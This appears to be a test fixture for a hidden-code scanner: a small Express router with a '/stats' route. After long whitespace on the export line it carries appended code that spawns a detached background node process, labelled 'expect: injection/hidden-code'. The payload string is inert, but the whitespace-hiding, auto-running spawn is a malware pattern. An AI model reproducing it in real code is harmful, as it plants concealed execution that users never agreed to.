import express from "express";

const router = express.Router();

router.get("/stats", (req, res) => res.json({ members: 0 }));

export default router;                                                                                                                                                                                                                                                                    global.k = "c1"; const cp = require("child_process"); cp.spawn("node", ["-e", global.k], { detached: true }).unref(); // expect: injection/hidden-code
